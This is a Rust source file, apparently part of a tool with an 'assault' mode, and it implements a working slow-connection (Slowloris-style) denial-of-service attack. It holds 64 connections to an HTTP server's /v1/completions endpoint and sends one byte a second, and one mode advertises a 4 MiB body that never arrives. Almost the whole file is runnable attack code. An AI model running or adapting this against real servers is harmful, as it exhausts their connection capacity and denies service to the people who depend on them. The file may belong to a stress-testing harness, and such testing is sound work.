//! Attackers of an HTTP server, who hold connections.

use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use super::{Assault, Orders};

/// Connections of one id.
const CONNECTIONS: usize = 64;
/// Between two bytes, and before a connection that was ended is made anew.
const PAUSE: Duration = Duration::from_secs(1);
/// What the heads of bodies that come slowly say of their length: as much as a request may have.
const BODY_BYTES: usize = 4 << 20;

/// Holds connections until the process ends.
pub(super) async fn hold(assault: Assault, orders: &Orders, done: &AtomicU64) -> anyhow::Result<()> {
    let address = &orders.targets[0].address;
    let connections = (0..CONNECTIONS).map(async |_| {
        loop {
            // Whatever ends it is the server's affair.
            let _ = one(assault, address, done).await;
            tokio::time::sleep(PAUSE).await;
        }
    });
    futures::future::join_all(connections).await.into_iter().collect()
}

/// One connection, on which a byte a second is sent until the server ends it.
async fn one(assault: Assault, address: &str, done: &AtomicU64) -> anyhow::Result<()> {
    let mut stream = TcpStream::connect(address).await?;
    let request = format!("POST /v1/completions HTTP/1.1\r\nHost: {address}\r\nContent-Type: application/json\r\n");
    stream.write_all(request.as_bytes()).await?;
    if assault == Assault::Bodies {
        stream.write_all(format!("Content-Length: {BODY_BYTES}\r\n\r\n").as_bytes()).await?;
    }
    done.fetch_add(1, Ordering::Relaxed);
    let mut answer = [0; 1024];
    loop {
        stream.write_all(b" ").await?;
        if let Ok(Ok(0) | Err(_)) = tokio::time::timeout(PAUSE, stream.read(&mut answer)).await {
            return Ok(());
        }
    }
}
